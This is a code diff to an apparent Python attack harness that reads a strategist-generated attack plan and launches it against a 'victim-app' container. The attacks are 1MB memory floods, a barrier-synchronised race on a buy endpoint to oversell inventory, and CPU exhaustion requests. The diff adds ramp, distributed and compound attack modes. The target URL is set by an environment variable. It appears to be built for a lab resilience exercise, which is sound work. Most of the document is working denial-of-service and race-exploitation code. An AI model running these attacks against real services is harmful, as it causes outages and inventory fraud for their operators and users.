@@ -1,128 +1,282 @@
+import asyncio
 import json
-import requests
-import threading
+import os
 import time
 import sys
 
+import burst
+import distributed
+import plan_stream
+import ramp
+import schedule
+from histogram import AttackStats
+from loadgen import LoadEngine, POOL_SIZE
+from monitor import HealthMonitor, BASELINE_SECONDS, OVERLAP
+
 # CONFIGURATION
-VICTIM_URL = "http://victim-app:8080"
+VICTIM_URL = os.getenv("TARGET_URL", "http://victim-app:8080")
 PLAN_FILE = "attack_plan.json"
+REPORT_FILE = os.getenv("ATTACK_REPORT", "attack_report.json")
+MEMORY_CHUNKS = int(os.getenv("MEMORY_CHUNKS", "99"))
+RACE_REQUESTS = int(os.getenv("RACE_REQUESTS", "50"))
+# "burst" parks warmed connections at a barrier and releases them together (see burst.py);
+# "pool" just fires RACE_REQUESTS at once over the shared pool
+RACE_MODE = os.getenv("RACE_MODE", "burst")
+RACE_METHOD = os.getenv("RACE_METHOD", "GET")  # the victim maps /api/buy as GET; used by every race path
+CPU_REQUESTS = int(os.getenv("CPU_REQUESTS", "1"))
+# "fixed" fires each attack's canned burst; "ramp" searches each endpoint's breaking point;
+# "distributed" fans each attack out over DIST_WORKERS processes / AGENT_WORKERS agents
+ATTACK_MODE = os.getenv("ATTACK_MODE", "fixed")
+DIST_REQUESTS = int(os.getenv("DIST_REQUESTS", "10000"))
+DIST_CONCURRENCY = int(os.getenv("DIST_CONCURRENCY", "400"))
+SCHEDULE = schedule.SCHEDULE
+# Runs each CPU attack together with a memory attack to surface compound failures
+COMPOUND = os.getenv("ATTACK_COMPOUND", "off") == "on"
+# Start on the first card while the strategist is still generating the rest (attack_plan.jsonl)
+FOLLOW_PLAN = os.getenv("ATTACK_FOLLOW", "off")
+PLAN_RUN = os.getenv("PLAN_RUN")
+RAMP_CPU_ITERATIONS = int(os.getenv("RAMP_CPU_ITERATIONS", "1000000"))
+MEMORY_PAYLOAD = "A" * 1024 * 1024
 
-def check_health():
+async def check_health(engine):
     """Checks if the Victim is still alive."""
-    try:
-        r = requests.get(f"{VICTIM_URL}/api/health", timeout=2)
-        return r.status_code == 200
-    except:
-        return False
+    return await engine.health(timeout=2)
 
-def attack_memory_leak(endpoint):
+async def attack_memory_leak(engine, endpoint, stats):
     print(f"Launching MEMORY FLOOD on {endpoint}...")
     # Payload: 1MB string
-    payload = "A" * 1024 * 1024 
-    
-    # We send requests until it likely crashes
-    for i in range(1, 100):
-        try:
-            r = requests.post(f"{VICTIM_URL}{endpoint}", data=payload, timeout=1)
-            print(f"      -> Injecting Chunk {i} (Status: {r.status_code})")
-        except:
+    payload = MEMORY_PAYLOAD
+
+    def report(res):
+        if res.ok:
+            print(f"      -> Injecting Chunk {res.index + 1} (Status: {res.status})")
+        else:
             print("      -> Connection failed (Target might be dead!)")
-            break
 
-def attack_race_condition(endpoint):
+    # We send requests until it likely crashes
+    await engine.run("POST", endpoint, MEMORY_CHUNKS, data=payload, timeout=1,
+                     on_result=report, stop_on_error=True, stats=stats)
+
+async def attack_race_condition(engine, endpoint, stats):
     print(f"Launching CONCURRENCY STORM on {endpoint}...")
-    
-    def buy_request():
-        try:
-            requests.post(f"{VICTIM_URL}{endpoint}")
-        except:
-            pass
-
-    # Launch 50 threads at the EXACT same time
-    threads = []
-    for _ in range(50):
-        t = threading.Thread(target=buy_request)
-        threads.append(t)
-        t.start()
-    
-    for t in threads:
-        t.join()
-        
+
+    if RACE_MODE == "burst":
+        result = await burst.race_burst(VICTIM_URL, RACE_METHOD, endpoint, stats=stats)
+        print(f"      -> {result['connections']} requests released within {result['release_skew_ms']}ms, "
+              f"responses spread over {result['response_spread_ms']}ms")
+        print(f"      -> Purchases: {result['purchases']}, expected at most {result['expected_purchases']}, "
+              f"oversold: {result['oversold']} (inventory {result['inventory_before']} -> {result['inventory_after']})")
+        return {"race": result}
+
+    # Fire every request at once over the shared pool
+    await engine.run(RACE_METHOD, endpoint, RACE_REQUESTS, concurrency=RACE_REQUESTS, rate=0, stats=stats)
+
     # Check the damage
-    r = requests.get(f"{VICTIM_URL}/api/inventory")
-    print(f"      -> Attack Complete. Remaining Inventory: {r.text}")
+    r = await engine.request("GET", "/api/inventory", read_body=True)
+    print(f"      -> Attack Complete. Remaining Inventory: {r.body if r.ok else r.error}")
 
-def attack_cpu_stress(endpoint):
+async def attack_cpu_stress(engine, endpoint, stats):
     print(f"Launching CPU ORBITAL CANNON on {endpoint}...")
-    try:
-        # Ask for 1 billion iterations to freeze the CPU
-        requests.get(f"{VICTIM_URL}{endpoint}?iterations=2000000000", timeout=1)
-    except requests.exceptions.ReadTimeout:
+    # Ask for 2 billion iterations to freeze the CPU
+    results = await engine.run("GET", f"{endpoint}?iterations=2000000000", CPU_REQUESTS, timeout=1, stats=stats)
+    if any(r.error == "timeout" for r in results):
         print("      -> Success! Server timed out (CPU is fried).")
-    except Exception as e:
-        print(f"      -> Attack status: {e}")
+    else:
+        for r in results:
+            print(f"      -> Attack status: {r.error or r.status}")
 
-def execute_plan():
-    print("LOADING ATTACK PLAN...")
-    
-    try:
-        with open(PLAN_FILE, 'r') as f:
-            attacks = json.load(f)
-    except FileNotFoundError:
-        print("No plan found! Run 'strategist.py' first.")
-        return
+def write_report(reports, outcome, capacities=(), monitor=None):
+    """Machine-readable per-attack results for the orchestrator and for run-to-run comparison."""
+    report = {"outcome": outcome, "mode": ATTACK_MODE, "schedule": SCHEDULE, "finished_at": time.time(), "attacks": reports}
+    if capacities:
+        report["capacity"] = list(capacities)
+    if monitor:
+        print(monitor.summary())
+        report["monitor"] = monitor.report()
+    with open(REPORT_FILE, "w") as f:
+        json.dump(report, f, indent=2)
+    print(f"Attack report saved to {REPORT_FILE}.")
 
-    print(f"FOUND {len(attacks)} VULNERABILITIES. ENGAGING...")
+def classify(attack):
+    """Maps a plan entry to (attack kind, endpoint path) via fuzzy keyword matching."""
+    # 1. CLEANUP: Strip HTTP verbs and params
+    raw_endpoint = attack['trigger_endpoint']
+    # Remove GET/POST and trim whitespace
+    clean_endpoint = raw_endpoint.replace("GET ", "").replace("POST ", "").strip()
+    # Remove query parameters for the function call (we might add them back for CPU attacks)
+    base_endpoint = clean_endpoint.split("?")[0]
+    
+    # 2. SMART DISPATCHER (Fuzzy Matching)
+    # We convert everything to lowercase to make matching easier
+    vuln_type = attack['type'].lower()
+    vuln_name = attack['name'].lower()
+    thought = attack.get('thought_signature', '').lower()
+    
+    # COMBINE all text to search for keywords
+    full_context = f"{vuln_type} {vuln_name} {thought}"
 
-    for attack in attacks:
-        print(f"\n⚡ TARGET: {attack['name']}")
-        print(f"   TYPE: {attack['type']}")
-        
-        # 1. CLEANUP: Strip HTTP verbs and params
-        raw_endpoint = attack['trigger_endpoint']
-        # Remove GET/POST and trim whitespace
-        clean_endpoint = raw_endpoint.replace("GET ", "").replace("POST ", "").strip()
-        # Remove query parameters for the function call (we might add them back for CPU attacks)
-        base_endpoint = clean_endpoint.split("?")[0]
+    # --- LOGIC MAPPING ---
+    
+    # IF it involves Memory, Logs, or Storage -> Memory Flood
+    if any(x in full_context for x in ["memory", "leak", "log", "queue", "storage", "heap"]):
+        return "memory", base_endpoint
         
-        # 2. SMART DISPATCHER (Fuzzy Matching)
-        # We convert everything to lowercase to make matching easier
-        vuln_type = attack['type'].lower()
-        vuln_name = attack['name'].lower()
-        thought = attack.get('thought_signature', '').lower()
+    # IF it involves Inventory, Race, Stock, Buying, or Business Logic -> Race Condition
+    if any(x in full_context for x in ["race", "concurrency", "inventory", "stock", "buy", "business logic"]):
+        return "race", base_endpoint
         
-        # COMBINE all text to search for keywords
-        full_context = f"{vuln_type} {vuln_name} {thought}"
+    # IF it involves CPU, Loop, Exhaustion, or DoS -> CPU Stress
+    if any(x in full_context for x in ["cpu", "dos", "exhaustion", "loop", "resource", "parasite", "heavy"]):
+        return "cpu", base_endpoint
 
-        # --- LOGIC MAPPING ---
-        
-        # IF it involves Memory, Logs, or Storage -> Memory Flood
-        if any(x in full_context for x in ["memory", "leak", "log", "queue", "storage", "heap"]):
-            attack_memory_leak(base_endpoint)
-            
-        # IF it involves Inventory, Race, Stock, Buying, or Business Logic -> Race Condition
-        elif any(x in full_context for x in ["race", "concurrency", "inventory", "stock", "buy", "business logic"]):
-            attack_race_condition(base_endpoint)
-            
-        # IF it involves CPU, Loop, Exhaustion, or DoS -> CPU Stress
-        elif any(x in full_context for x in ["cpu", "dos", "exhaustion", "loop", "resource", "parasite", "heavy"]):
-            attack_cpu_stress(base_endpoint)
-            
+    return None, base_endpoint
+
+ATTACKS = {
+    "memory": attack_memory_leak,
+    "race": attack_race_condition,
+    "cpu": attack_cpu_stress,
+}
+
+def request_shape(kind, endpoint):
+    """The single request each attack kind repeats under sustained load: (method, path, request kwargs)."""
+    if kind == "memory":
+        return "POST", endpoint, {"data": MEMORY_PAYLOAD}
+    if kind == "race":
+        return RACE_METHOD, endpoint, {}
+    return "GET", f"{endpoint}?iterations={RAMP_CPU_ITERATIONS}", {}
+
+async def run_attack(engine, attack, kind, endpoint, monitor=None):
+    """Fires one plan entry. Returns (per-attack report or None, ramp capacity or None)."""
+    print(f"\n⚡ TARGET: {attack['name']}")
+    print(f"   TYPE: {attack['type']}")
+    stats = AttackStats(attack['name'], endpoint)
+    extra, capacity = None, None
+    if monitor:
+        monitor.begin(attack['name'], endpoint)
+    try:
+        if ATTACK_MODE == "ramp":
+            method, path, kwargs = request_shape(kind, endpoint)
+            capacity = await ramp.find_capacity(engine, attack['name'], method, path, **kwargs)
+        elif ATTACK_MODE == "distributed" and distributed.enabled():
+            method, path, kwargs = request_shape(kind, endpoint)
+            if "data" in kwargs:
+                kwargs = {"data_bytes": len(kwargs["data"])}
+            stats = await distributed.run_distributed(VICTIM_URL, attack['name'], method, path,
+                                                      DIST_REQUESTS, DIST_CONCURRENCY,
+                                                      rate=engine.rate, kwargs=kwargs)
         else:
-            print(f"   [?] No automated script matches context: {vuln_type}")
+            extra = await ATTACKS[kind](engine, endpoint, stats)
+    finally:
+        if monitor:
+            monitor.end(attack['name'])
+
+    if not stats.requests:
+        return None, capacity
+    print(stats.summary())
+    return {**stats.report(), **(extra or {})}, capacity
+
+def make_job(index, attack):
+    """One plan entry as a schedulable job, or None when no attack script matches it."""
+    kind, endpoint = classify(attack)
+    if kind is None:
+        print(f"   [?] {attack['name']}: no automated script matches context: {attack['type'].lower()}")
+        return None
+    return {"index": index, "name": attack['name'], "members": [(index, attack, kind, endpoint)],
+            **schedule.tag(kind, endpoint)}
+
+def plan_jobs(attacks):
+    """Turns plan entries into schedulable jobs, pairing CPU with memory attacks in compound mode."""
+    jobs = [job for job in (make_job(i, a) for i, a in enumerate(attacks)) if job]
+
+    if COMPOUND:
+        cpu = [j for j in jobs if j["members"][0][2] == "cpu"]
+        memory = [j for j in jobs if j["members"][0][2] == "memory"]
+        for c, m in zip(cpu, memory):
+            # The pair replaces its two solo runs and goes where the earlier one was planned
+            first, second = sorted((c, m), key=lambda j: j["index"])
+            first["members"] += second["members"]
+            first["name"] = f"{first['name']}{OVERLAP}{second['name']}"
+            first["endpoints"] = first["endpoints"] | second["endpoints"]
+            first["resource"], first["scope"] = "heap+cpu", "interfering"
+            jobs.remove(second)
+    return jobs
+
+async def followed_jobs():
+    """Jobs for cards as the strategist streams them (compound pairing needs the whole plan)."""
+    index = 0
+    async for attack in plan_stream.follow(PLAN_RUN):
+        print(f"NEW CARD: {attack.get('name')} ({attack.get('severity')})")
+        job = make_job(index, attack)
+        index += 1
+        if job:
+            yield job
+
+async def execute_plan(engine, monitor=None):
+    # Overlapping ramps or fleet-wide bursts would corrupt each other's numbers
+    parallelism = schedule.PARALLELISM if SCHEDULE == "parallel" and ATTACK_MODE == "fixed" else 1
+    if FOLLOW_PLAN == "on":
+        print(f"FOLLOWING ATTACK PLAN STREAM {plan_stream.STREAM_FILE}...")
+        jobs = followed_jobs()
+    else:
+        print("LOADING ATTACK PLAN...")
 
-        # Check if we killed it
-        if not check_health():
-            print("\nTARGET DOWN! VICTIM APP HAS CRASHED.")
+        try:
+            with open(PLAN_FILE, 'r') as f:
+                attacks = json.load(f)
+        except FileNotFoundError:
+            print("No plan found! Run 'strategist.py' first.")
             return
 
+        print(f"FOUND {len(attacks)} VULNERABILITIES. ENGAGING...")
+        jobs = plan_jobs(attacks)
+        isolated = sum(1 for j in jobs if j["scope"] == "isolated")
+        print(f"Schedule: {len(jobs)} job(s), {isolated} isolated, parallelism {parallelism}.")
+    reports = {}
+    capacities = {}
+
+    async def run_job(job):
+        compound = len(job["members"]) > 1
+        if compound:
+            print(f"\n💥 COMPOUND: {job['name']}")
+        results = await asyncio.gather(*(run_attack(engine, attack, kind, endpoint, monitor)
+                                         for _, attack, kind, endpoint in job["members"]))
+        for (index, _, _, _), (report, capacity) in zip(job["members"], results):
+            if report and compound:
+                report["compound"] = job["name"]
+            reports[index] = report
+            capacities[index] = capacity
+
+    crashed = await schedule.run_schedule(jobs, run_job, lambda: check_health(engine), parallelism)
+
+    def in_order(results):
+        # Parallel jobs finish in any order; reports keep the plan's
+        return [results[i] for i in sorted(results) if results[i]]
+
+    if crashed:
+        print("\nTARGET DOWN! VICTIM APP HAS CRASHED.")
+        write_report(in_order(reports), "crashed", in_order(capacities), monitor)
+        return
+
     print("\nAttack Cycle Finished. Target is still standing.")
+    write_report(in_order(reports), "standing", in_order(capacities), monitor)
+
+async def main():
+    # Ramping needs a connection per in-flight request or pool waits would pollute latency
+    pool_size = max(POOL_SIZE, ramp.MAX_CONCURRENCY) if ATTACK_MODE == "ramp" else POOL_SIZE
+    async with LoadEngine(VICTIM_URL, pool_size=pool_size) as engine:
+        if not await check_health(engine):
+            print("Victim is already dead. Please restart the container.")
+            return
+        # Continuous availability probing for the whole run, starting with a quiet baseline
+        monitor = HealthMonitor(VICTIM_URL)
+        await monitor.start()
+        try:
+            await asyncio.sleep(BASELINE_SECONDS)
+            await execute_plan(engine, monitor)
+        finally:
+            await monitor.stop()
 
 if __name__ == "__main__":
     # Wait a second for the network to settle
     time.sleep(2)
-    if check_health():
-        execute_plan()
-    else:
-        print("Victim is already dead. Please restart the container.")
\ No newline at end of file
+    asyncio.run(main())